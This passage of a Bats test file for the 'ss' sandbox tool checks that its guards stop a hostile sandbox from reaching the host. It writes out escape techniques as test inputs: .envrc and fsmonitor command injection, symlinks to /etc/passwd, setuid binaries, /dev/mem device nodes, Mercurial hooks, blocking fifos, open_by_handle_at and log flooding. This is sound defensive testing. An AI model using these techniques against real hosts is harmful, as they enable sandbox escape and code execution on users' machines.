  # answer in a protocol not asked for is refused whole.
  in_sandbox 'printf "#!/bin/sh\nGIT_PROTOCOL=version=2 exec /usr/bin/git upload-pack \"\$@\"\n" | sudo -n tee /usr/local/bin/git-upload-pack >/dev/null && sudo -n chmod 755 /usr/local/bin/git-upload-pack'
  run --separate-stderr ss fetch ho-app
  assert_failure 255
  [[ "$stderr" == *"the sandbox's git-upload-pack answered in a protocol it was not asked for"* ]] || { echo "$stderr"; false; }
  assert_equal "$(hgit for-each-ref --format='%(refname) %(objectname)')" "$before"
  in_sandbox 'sudo -n rm -f /usr/local/bin/git-upload-pack'
  in_copy 'git for-each-ref --format="delete %(refname)" refs/heads/many refs/heads/offer | git -c core.hooksPath=/dev/null update-ref --stdin'
  # Commits that change files the host runs or obeys on its own never move a host branch, even
  # one not checked out: as ss apply without --allow-exec.
  hgit branch -f ffx sandbox/main
  in_copy "git -c core.hooksPath=/dev/null checkout -q -f -B ffx main && echo 'touch $t/pwned' > .envrc &&
    git add .envrc && git -c core.hooksPath=/dev/null -c user.name=a -c user.email=a@s commit -q -m envrc"
  run --separate-stderr ss fetch ho-app
  assert_success
  assert_line "ffx: 1 commit left in sandbox/ffx: its commits change files the host runs or obeys on its own: .envrc (direnv); read them (git diff $(hgit rev-parse --short=7 ffx) sandbox/ffx), then: git merge sandbox/ffx"
  assert_equal "$(hgit rev-parse ffx)" "$(hgit rev-parse sandbox/main)"
  assert_not_exists "$P/.envrc"
  hgit branch -q -D ffx
  # A repository under another name (HEAD, config, objects, refs): git obeys its config there.
  hgit branch -f ffr sandbox/main
  in_copy "git -c core.hooksPath=/dev/null checkout -q -f -B ffr main && mkdir -p docs2/objects docs2/refs &&
    printf 'ref: refs/heads/main\n' > docs2/HEAD && printf '[core]\n\tfsmonitor = \"touch $t/pwned; false\"\n' > docs2/config &&
    touch docs2/objects/.keep docs2/refs/.keep && git add docs2 &&
    git -c core.hooksPath=/dev/null -c user.name=a -c user.email=a@s commit -q -m repo"
  run --separate-stderr ss fetch ho-app
  assert_success
  [[ "$output" == *"ffr: 1 commit left in sandbox/ffr: its commits change files the host runs or obeys on its own: docs2/HEAD (git (a repository's HEAD: git obeys the config beside it))"* ]] || { echo "$output"; false; }
  assert_equal "$(hgit rev-parse ffr)" "$(hgit rev-parse sandbox/main)"
  assert_not_exists "$P/docs2"
  hgit branch -q -D ffr
  # Nor over links that lead out of the project or into .git.
  hgit branch -f ffl sandbox/main
  in_copy "git -c core.hooksPath=/dev/null checkout -q -f -B ffl main && ln -s /etc/passwd out && ln -s .git/config cfg &&
    ln -s sub/../../x up && ln -s docs/README.md fine && git add out cfg up fine &&
    git -c core.hooksPath=/dev/null -c user.name=a -c user.email=a@s commit -q -m links"
  run --separate-stderr ss fetch ho-app
  assert_success
  assert_line "ffl: 1 commit left in sandbox/ffl: its commits bring links that lead out of the project or into .git: cfg -> .git/config, out -> /etc/passwd, up -> sub/../../x; read them (git diff $(hgit rev-parse --short=7 ffl) sandbox/ffl), then: git merge sandbox/ffl"
  assert_equal "$(hgit rev-parse ffl)" "$(hgit rev-parse sandbox/main)"
  hgit branch -q -D ffl
  in_copy 'git -c core.hooksPath=/dev/null checkout -q -f agent && git -c core.hooksPath=/dev/null branch -q -D ffl'
  # A branch called HEAD never makes "sandbox" name the sandbox's choice.
  in_copy 'git -c core.hooksPath=/dev/null update-ref refs/heads/HEAD HEAD'
  run ss fetch ho-app
  assert_success
  [ -z "$(hgit for-each-ref refs/remotes/sandbox/HEAD)" ]
  in_copy 'git -c core.hooksPath=/dev/null update-ref -d refs/heads/HEAD'
  in_copy 'git -c core.hooksPath=/dev/null checkout -q -f agent && git -c core.hooksPath=/dev/null branch -q -D ffx'
  in_copy 'git config --remove-section filter.evil && git config --unset core.fsmonitor &&
    git -c core.hooksPath=/dev/null checkout -q -f main && git -c core.hooksPath=/dev/null branch -q -D agent'
  # What it gave and no longer has is the user's still: kept in a branch.
  run ss fetch ho-app
  assert_success
  assert_line --regexp "^agent: the sandbox no longer has 1 commit it gave before: kept in refs/sandbox-kept/[0-9a-f]{40}$"
  [ -z "$(hgit for-each-ref refs/remotes/sandbox/agent)" ]
  assert_not_exists "$t/pwned"
}

@test "as root in the sandbox: no file opens by its handle (open_by_handle_at), which would reach every file of a shared folder's disk" {
  case $SS_E2E_BACKEND in
    lxd | docker | podman) ;;
    *) skip "a VM's handles name its own kernel's files (the stand-ins of Lima and Lume run as the host's root)" ;;
  esac
  # The handle of the shared folder itself, then the folder opened by it: the kernel refuses the
  # second call without CAP_DAC_READ_SEARCH of the host's, whatever the handle names.
  run in_sandbox "sudo -n python3 -c '
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
class Handle(ctypes.Structure):
    _fields_ = [(\"size\", ctypes.c_uint), (\"type\", ctypes.c_int), (\"bytes\", ctypes.c_ubyte * 128)]
h, mount = Handle(128), ctypes.c_int()
path = os.path.expanduser(\"~sandbox/projects\").encode()
if libc.name_to_handle_at(-100, path, ctypes.byref(h), ctypes.byref(mount), 0) != 0:
    print(\"no handle:\", os.strerror(ctypes.get_errno()))
else:
    dir_fd = os.open(path, os.O_RDONLY)
    fd = libc.open_by_handle_at(dir_fd, ctypes.byref(h), os.O_RDONLY)
    print(\"opened\" if fd >= 0 else \"refused: \" + os.strerror(ctypes.get_errno()))
'"
  assert_success
  # Docker and Podman: the capability dropped; LXD: its seccomp policy refuses the call itself.
  if [ "$SS_E2E_BACKEND" = lxd ]; then
    assert_output "refused: Function not implemented"
  else
    assert_output "refused: Operation not permitted"
  fi
}

@test "copy mode is a copy: root in the sandbox finds the host's folder of a copy-mode project nowhere, whatever it unmounts or makes" {
  # The project lives beside the shared projects folder, not in it.
  [ -d "$P" ] && [ ! -e "$SS_HOME/projects/ho-app" ]
  ss exec ho-app -- true
  # Written on the host after the last send: only the host's own folder holds it.
  marker="host-only-$$-$RANDOM$RANDOM"
  as_owner sh -c "echo '$marker' > '$P/marker.txt'"
  # (ss's own record of when the project was last opened aside, and the refs and objects a
  # session's end fetches; the repository's settings and hooks are in.)
  sum() { (cd "$P" && find . -path ./.ss -prune -o \( -path ./.git/objects -o -path ./.git/refs -o -path ./.git/logs \) -prune -o -printf '%p %y %m %s %T@\n' | sort && cat marker.txt .git/config) | sha256sum; }
  before=$(sum)
  # Every mount but the system's, and the home folder: the marker is nowhere.
  run in_sandbox "sudo -n sh -s $marker" <<'SH'
m=$1
dirs=$(awk '$2 != "/" && $2 !~ /^\/(proc|sys|dev|run)/ {print $2}' /proc/self/mounts)
grep -rlsF "$m" /home $dirs || true
SH
  assert_output ""
  # The first round's way in: lift what covers the copy, write where the project used to be.
  run in_sandbox 'sudo -n umount -l ~/copy-projects/ho-app 2>&1; sudo -n umount -l ~/project-src/ho-app 2>&1; mkdir -p ~/projects/ho-app && echo x >> ~/projects/ho-app/README.md && echo x >> ~/project-src/ho-app/README.md 2>&1; sudo -n sh -c "echo tampered >> /home/sandbox/project-src/ho-app/README.md"'
  assert_equal "$(sum)" "$before"
  # What it made in the shared folder is a folder of its own there, never the project: ss opens
  # the copy-mode project, untouched, and sends it again whole.
  run --separate-stderr ss ho-app -- sh -c 'pwd; cat ~/project-src/ho-app/marker.txt; grep -c tampered ~/project-src/ho-app/README.md || true'
  assert_success
  assert_equal "$output" "/home/sandbox/copy-projects/ho-app
$marker
0"
  assert_equal "$(sum)" "$before"
  rm -rf "$SS_HOME/projects/ho-app"
  as_owner rm -f "$P/marker.txt"
}

@test "an ephemeral sandbox powered off from inside during its session is started and asked, never removed blind" {
  in_copy 'echo offline > offline.txt'
  ss config set "sandboxes.$SANDBOX.ephemeral" true >/dev/null
  # As a crash would: at once where root may (reboot(2)), else through systemd; a stand-in
  # guest's init ends on SIGTERM.
  run --separate-stderr ss ho-app -- sh -c 'if [ "$(cat /proc/1/comm)" = systemd ]; then sudo -n systemctl poweroff --force --force || sudo -n systemctl poweroff --force; else sudo -n kill -TERM 1; fi; sleep 60'
  ss config set "sandboxes.$SANDBOX.ephemeral" false >/dev/null
  [[ "$stderr" == *"Sandbox '$SANDBOX' stopped during the session; starting it to look for changes not yet applied..."* ]] || { echo "$stderr"; false; }
  # (Where the guest stops at once, the session's own error follows this line.)
  [[ "$stderr" == *"ss: warning: kept ephemeral sandbox '$SANDBOX': working copies have changes not yet applied (ho-app); bring them to the host with ss apply, then remove it: ss vm delete --sandbox $SANDBOX --force"* ]] || { echo "$stderr"; false; }
  run in_copy 'cat offline.txt'
  assert_output "offline"
}

# Before the last test, which deletes the sandbox: this one leaves its guard's log bucket empty.
@test "a fifo named as a file the host's tools open on their own is set aside while the sandbox runs: the host's git never waits on one" {
  ss new ho-fifo >/dev/null
  ss ho-fifo -- true
  D="$SS_HOME/projects/ho-fifo"
  # git opens .gitignore and .gitattributes in every folder it looks at, direnv .envrc, an editor
  # its settings: a fifo there would keep them waiting for ever. One is made in place, one moved
  # into place; a fifo of any other name is the sandbox's own business. (Through QEMU's virtiofs,
  # mkfifo looks the fifo up once made, and may find it gone already: it then fails, though it
  # made it.)
  in_sandbox "cd ~/projects/ho-fifo && mkdir -p sub/.vscode && { mkfifo sub/.gitignore .gitattributes sub/.vscode/settings.json; mkfifo sub/keep.pipe x && mv x .envrc; }"
  for _ in $(seq 40); do
    [ -p "$D/sub/.gitignore" ] || [ -p "$D/.gitattributes" ] || [ -p "$D/.envrc" ] ||
      [ -p "$D/sub/.vscode/settings.json" ] || break
    sleep 0.05
  done
  for f in sub/.gitignore .gitattributes .envrc sub/.vscode/settings.json; do
    [ ! -e "$D/$f" ] || { ls -la "$D" "$D/sub"; false; }
    [ -p "$(echo "$D/$f".refused-*)" ] || { ls -la "$D" "$D/sub"; false; }
    grep -qF "set aside a fifo named as a file the host's tools open on their own (they would wait on it for ever): ~/super-sandbox/projects/ho-fifo/$f.refused-" "$SS_HOME/.ss/sandboxes/$SANDBOX/guard.log"
  done
  [ -p "$D/sub/keep.pipe" ]
  run as_owner timeout 20 git -C "$D" status --porcelain
  assert_success
}

@test "as root in the sandbox: a file made setuid or given capabilities in a shared project loses them while the sandbox runs; a device file made there is set aside" {
  ss new ho-priv >/dev/null
  ss ho-priv -- true
  D="$SS_HOME/projects/ho-priv"
  log="$SS_HOME/.ss/sandboxes/$SANDBOX/guard.log"
  shown="~/super-sandbox/projects/ho-priv"
  # On the host a setuid file runs as its owner, one with capabilities (here cap_net_raw,
  # effective) with them, for whoever runs it; a device file opens the device (here /dev/mem) for
  # whoever can reach it. Each engine lets root inside make what its kernel and mounts allow:
  # what was made is said.
  run in_sandbox 'cd ~/projects/ho-priv && cp /bin/true suid && sudo -n chmod 4755 suid && echo setuid
    cp /bin/true capped && sudo -n python3 -c "import os; os.setxattr(\"capped\", \"security.capability\", bytes.fromhex(\"0100000200200000000000000000000000000000\"))" 2>/dev/null && echo capabilities
    sudo -n mknod mem c 1 1 2>/dev/null && echo device; true'
  assert_success
  made=$output
  assert_line setuid
  capable() { python3 -c 'import os, sys; os.getxattr(sys.argv[1], "security.capability")' "$1" 2>/dev/null; }
  for _ in $(seq 40); do
    [ -u "$D/suid" ] || capable "$D/capped" || [ -c "$D/mem" ] || break
    sleep 0.05
  done
  assert_equal "$(stat -c %a "$D/suid")" 755
  grep -qF "took the setuid and setgid bits off a file the sandbox gave them (on the host it would run as you for anyone who can reach it): $shown/suid" "$log"
  if [[ "$made" == *capabilities* ]]; then
    ! capable "$D/capped"
    grep -qF "took the file capabilities off a file the sandbox gave them (on the host it would run with them for anyone who can reach it): $shown/capped" "$log"
  fi
  if [[ "$made" == *device* ]]; then
    [ ! -e "$D/mem" ]
    [ -c "$(echo "$D"/mem.refused-*)" ]
    grep -qF "set aside a device file the sandbox made (on the host it opens the device for anyone who can reach it): $shown/mem.refused-" "$log"
  fi
  # Docker and Podman share the folder through a mount that maps the sandbox's user alone, with
  # nodev: root inside makes nothing there (its files, devices and capabilities are refused).
  if [ "$SS_E2E_BACKEND" = docker ] || [ "$SS_E2E_BACKEND" = podman ]; then
    [[ "$made" != *capabilities* && "$made" != *device* ]] || { echo "$made"; false; }
  fi
}

@test "a Mercurial or Jujutsu repository the sandbox makes in a shared project is set aside: the host's hg never runs its hooks" {
  t="$BATS_TEST_TMPDIR"
  chmod 777 "$t"
  ss new ho-hg >/dev/null
  ss ho-hg -- true
  D="$SS_HOME/projects/ho-hg"
  # A .hg made in place with a hook, one made elsewhere and moved in, one that is a link to a
  # folder the sandbox made, and a .jj.
  # (The guard may set one aside before the next command reaches it: those fail, and that is
  # the point.)
  in_sandbox "cd ~/projects/ho-hg && mkdir -p b c d tmp/x ~/elsewhere/.hg
    printf '[hooks]\npre-status = touch $t/pwned-hg-b\n' > tmp/x/hgrc
    printf '[hooks]\npre-status = touch $t/pwned-hg-c\n' > ~/elsewhere/.hg/hgrc
    mkdir -p a/.hg && printf '[hooks]\npre-status = touch $t/pwned-hg-a\n' > a/.hg/hgrc
    mv tmp/x b/.hg; ln -s ~/elsewhere/.hg c/.hg; mkdir -p d/.jj/repo; true"
  for _ in $(seq 40); do
    [ -e "$D/a/.hg" ] || [ -e "$D/b/.hg" ] || [ -L "$D/c/.hg" ] || [ -e "$D/d/.jj" ] || break
    sleep 0.05
  done
  for f in a/.hg b/.hg c/.hg d/.jj; do
    [ ! -e "$D/$f" ] && [ ! -L "$D/$f" ] || { ls -la "$D/${f%/*}"; false; }
    grep -qF "set aside a $([ "${f#*/}" = .hg ] && echo "Mercurial repository (.hg)" || echo "Jujutsu repository (.jj)") that appeared in a shared folder while the sandbox ran: ~/super-sandbox/projects/ho-hg/$f.refused-" "$SS_HOME/.ss/sandboxes/$SANDBOX/guard.log"
  done
  for d in a b c; do
    (cd "$D/$d" && as_owner hg status >/dev/null 2>&1) || true
  done
  [ -z "$(ls "$t" | grep pwned)" ] || { ls "$t"; false; }
  # The session's end says so.
  run --separate-stderr ss ho-hg -- sh -c "$INSIDE_WAIT mkdir -p e/.hg; w 'test ! -e e/.hg'"
  assert_success
  [[ "$stderr" == *"set aside a Mercurial repository (.hg) that appeared in a shared folder while the sandbox ran: ~/super-sandbox/projects/ho-hg/e/.hg.refused-"* ]] || { echo "$stderr"; false; }
}

@test "a sandbox that plants repositories without end grows the guard's log only as its bucket allows, and says it counts the rest" {
  ss new ho-flood >/dev/null
  ss ho-flood -- true
  log="$SS_HOME/.ss/sandboxes/$SANDBOX/guard.log"
  before=$(stat -c %s "$log")
  start=$(date +%s)
  # 1,500 repositories, ten levels of 200-byte names deep: each line the guard writes for one is
  # about 2 KB, 3 MB in all.
  cat > "$SS_HOME/projects/ho-flood/flood.py" <<'EOF'
import os
deep = os.path.join("a", *(["x" * 200] * 10))
for n in range(1500):
    try:
        os.makedirs(os.path.join(deep, str(n), ".git"))
    except OSError:
        pass
EOF
  in_sandbox "cd ~/projects/ho-flood && python3 flood.py"
  sleep 2
  grown=$(( $(stat -c %s "$log") - before ))
  elapsed=$(( $(date +%s) - start ))
  # A megabyte at once, 256 bytes a second more, and the lines that say it counts.
  [ "$grown" -le $(( (1 << 20) + 256 * elapsed + 4096 )) ] || { echo "grew $grown bytes in $elapsed s"; false; }
  grep -q "^cannot write every line: the sandbox makes this guard say more than its log takes" "$log" ||
    { echo "grew $grown bytes in $elapsed s"; tail -c 600 "$log"; false; }
  # The guard still guards.
  in_sandbox "cd ~/projects/ho-flood && mkdir -p late/.git"
  for _ in $(seq 40); do [ -e "$SS_HOME/projects/ho-flood/late/.git" ] || break; sleep 0.05; done
  [ ! -e "$SS_HOME/projects/ho-flood/late/.git" ]
}

@test "delete refuses while a working copy has changes not yet applied; --force saves it on the host first" {
  in_copy 'echo unsaved > precious.txt'
  run --separate-stderr ss vm delete --yes
  assert_failure 1
  assert_equal "${stderr_lines[0]}" "ss-vm: error: delete would lose changes not yet applied in 1 working copy of sandbox '$SANDBOX'"
  [[ "$stderr" == *"hint: bring them to the host: ss apply ho-app"* ]] || { echo "$stderr"; false; }
  run ss vm status --json
  assert_success
  run --separate-stderr ss vm delete --yes --force
  assert_success
  touch "$BATS_FILE_TMPDIR/deleted"
  assert_line --index 0 --regexp "^Saved the working copy of 'ho-app' first: ~/super-sandbox/rescued/$SANDBOX-[0-9]{8}T[0-9]{6}Z/ho-app.tar.gz$"
  assert_line "Deleted: $SANDBOX"
  saved=$(compgen -G "$SS_HOME/rescued/$SANDBOX-*/ho-app.tar.gz")
  assert_equal "$(stat -c %a "$saved")" "600"
  assert_equal "$(tar -xzOf "$saved" ho-app/precious.txt)" "unsaved"
}
